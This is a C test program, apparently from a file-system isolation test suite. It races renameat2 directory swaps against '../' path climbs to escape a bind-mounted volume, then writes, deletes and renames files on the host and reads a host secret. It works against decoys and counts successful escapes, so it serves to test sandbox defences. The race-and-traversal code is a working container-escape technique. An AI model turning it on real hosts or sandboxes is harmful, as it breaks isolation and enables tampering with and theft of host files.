/* The classic `..` escape: a directory moved out from under a directory fd (and out of the
 * bind mount it was opened through) while paths climb out of it.
 *
 * dotdot_race TRIES SECONDS OUTER INNER DEEP SHALLOW HOST_OUTSIDE HOST_SECRET
 *
 * OUTER and INNER are two writable volumes of one host directory, INNER bound from
 * OUTER/x (so /inner/y/z is /vol/x/y/z). The program holds a directory fd of INNER/y/z
 * (and makes it its cwd), while a thread swaps OUTER/DEEP (= x/y/z) and OUTER/SHALLOW (= z)
 * with renameat2 RENAME_EXCHANGE: the directory the fd names jumps between depth 3 and 1,
 * and at depth 1 it is outside INNER's subtree, where a `..` that is not checked walks up
 * the host's file system. From the fd and the cwd, the main thread creates, write-opens with
 * O_TRUNC, unlinks, mkdirs, chmods and renames through ../ (1 to 5 times) + outside/NAME, and
 * through enough ../ to reach the host's root + HOST_OUTSIDE/NAME (HOST_OUTSIDE without its
 * leading slash): on the host, outside/ next to the volume and HOST_OUTSIDE hold decoys.
 * It also reads ../ * k + secret and the host root + HOST_SECRET, a host file no mount
 * shows: reading it would be an escape too.
 *
 * In the VM the volumes hold outside/f, g at OUTER/outside and at OUTER/x/outside
 * (INNER/outside), so that the same call succeeds at one depth and fails at the other.
 * Counters: "CALL_ok", "CALL_refused"; "inside" / "climbed_refused" (the write-open of
 * ../../outside/f from the fd: landed on INNER/outside/f, or not), "shallow" (the fd's
 * directory was at depth 1 after a call), "secret_read" (escapes), "swaps".
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#define SECRET "HVFS-SECRET-"

enum { OPEN, CREATE, UNLINK, MKDIR, CHMOD, RENAME, READ, CALLS };
static const char *names[CALLS] = {"open", "create", "unlink", "mkdir", "chmod", "rename", "read"};
static long ok[CALLS], refused[CALLS], inside, climbed_refused, shallow, secret_read, swaps, swap_errno;
static char deep[512], shallow_path[512];
static atomic_int stop;

static void *mover(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        if (syscall(SYS_renameat2, AT_FDCWD, deep, AT_FDCWD, shallow_path, RENAME_EXCHANGE) == 0)
            swaps++;
        else
            swap_errno = errno;
    }
    return NULL;
}

static void count(int call, long result) {
    if (result < 0)
        refused[call]++;
    else
        ok[call]++;
}

static void put(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) {
        if (write(fd, "volume\n", 7) < 0) perror("write");
        close(fd);
    }
}

/* The volume's own outside/ directories as they were (paths that do not move). */
static void restore(const char *outer) {
    const char *dirs[] = {"outside", "x/outside", "x/y/outside"};
    char path[1024];
    for (int k = 0; k < 3; k++) {
        snprintf(path, sizeof path, "%s/%s/m", outer, dirs[k]);
        rmdir(path);
        snprintf(path, sizeof path, "%s/%s/n", outer, dirs[k]);
        unlink(path);
        char g[1024], h[1024];
        snprintf(g, sizeof g, "%s/%s/g", outer, dirs[k]);
        snprintf(h, sizeof h, "%s/%s/h", outer, dirs[k]);
        if (rename(h, g) < 0 && access(g, F_OK) < 0) put(g);
    }
}

static __attribute__((noinline)) void join(char *out, size_t size, const char *prefix, const char *name) {
    snprintf(out, size, "%s/%s", prefix, name);
}

/* One round of every call through PREFIX (a chain of ../ and a directory), relative to DIR. */
static void climb(int dir, const char *prefix) {
    char f[1100], g[1100], h[1100], m[1100], n[1100];
    join(f, sizeof f, prefix, "f");
    join(g, sizeof g, prefix, "g");
    join(h, sizeof h, prefix, "h");
    join(m, sizeof m, prefix, "m");
    join(n, sizeof n, prefix, "n");
    int fd = openat(dir, f, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd >= 0) {
        if (write(fd, "attack\n", 7) < 0) perror("write");
        close(fd);
    }
    count(OPEN, fd);
    fd = openat(dir, n, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd >= 0) close(fd);
    count(CREATE, fd);
    count(UNLINK, unlinkat(dir, g, 0));
    count(MKDIR, mkdirat(dir, m, 0755));
    count(CHMOD, fchmodat(dir, f, 0600, 0));
    count(RENAME, renameat(dir, g, dir, h));
}

static void peek(int dir, const char *path) {
    char data[64] = {0};
    int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
    count(READ, fd);
    if (fd < 0) return;
    if (read(fd, data, sizeof data - 1) > 0 && strncmp(data, SECRET, strlen(SECRET)) == 0) secret_read++;
    close(fd);
}

int main(int argc, char **argv) {
    attack_begin(argc, argv);
    if (argc < 9) {
        fprintf(stderr, "usage: %s TRIES SECONDS OUTER INNER DEEP SHALLOW HOST_OUTSIDE HOST_SECRET\n", argv[0]);
        return 2;
    }
    const char *outer = argv[3], *inner = argv[4], *host_outside = argv[7], *host_secret = argv[8];
    snprintf(deep, sizeof deep, "%s/%s", outer, argv[5]);
    snprintf(shallow_path, sizeof shallow_path, "%s/%s", outer, argv[6]);
    char z[512];
    snprintf(z, sizeof z, "%s/y/z", inner);
    int dir = open(z, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0 || fchdir(dir) < 0) {
        perror(z);
        return 3;
    }
    struct stat f_inner;
    char inner_f[512];
    snprintf(inner_f, sizeof inner_f, "%s/outside/f", inner);
    if (stat(inner_f, &f_inner) < 0) return 3;

    /* The prefixes: 1 to 5 times ../ then outside, and far enough up for any host path. */
    char prefixes[7][1024];
    for (int k = 1; k <= 5; k++) {
        prefixes[k - 1][0] = 0;
        for (int j = 0; j < k; j++) strcat(prefixes[k - 1], "../");
        strcat(prefixes[k - 1], "outside");
    }
    char up[512] = "";
    for (int j = 0; j < 24; j++) strcat(up, "../");
    snprintf(prefixes[5], sizeof prefixes[5], "%s%s", up, host_outside);
    char secrets[7][1024];
    for (int k = 1; k <= 5; k++) {
        secrets[k - 1][0] = 0;
        for (int j = 0; j < k; j++) strcat(secrets[k - 1], "../");
        strcat(secrets[k - 1], "secret");
    }
    snprintf(secrets[5], sizeof secrets[5], "%s%s", up, host_secret);

    pthread_t thread;
    pthread_create(&thread, NULL, mover, NULL);
    long i;
    for (i = 0; attack_more(i); i++) {
        int base = i & 1 ? AT_FDCWD : dir;
        /* The probe of the race: ../../outside/f from z at depth 3 is INNER/outside/f. */
        int fd = openat(dir, "../../outside/f", O_WRONLY | O_TRUNC | O_CLOEXEC);
        struct stat st;
        if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == f_inner.st_ino && st.st_dev == f_inner.st_dev)
            inside++;
        else if (fd < 0)
            climbed_refused++;
        if (fd >= 0) close(fd);
        for (int k = 0; k < 6; k++) climb(base, prefixes[k]);
        for (int k = 0; k < 6; k++) peek(base, secrets[k]);
        struct stat now, at_shallow;
        if (fstat(dir, &now) == 0 && stat(shallow_path, &at_shallow) == 0 && now.st_ino == at_shallow.st_ino)
            shallow++;
        restore(outer);
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    long total = 0;
    printf("{");
    for (int c = 0; c < CALLS; c++) {
        printf("\"%s_ok\": %ld, \"%s_refused\": %ld, ", names[c], ok[c], names[c], refused[c]);
        total += ok[c] + refused[c];
    }
    printf("\"calls\": %ld, \"inside\": %ld, \"climbed_refused\": %ld, \"shallow\": %ld, \"secret_read\": %ld, "
           "\"swaps\": %ld, \"swap_errno\": %ld, \"tries\": %ld}\n",
           total, inside, climbed_refused, shallow, secret_read, swaps, swap_errno, i);
    return 0;
}
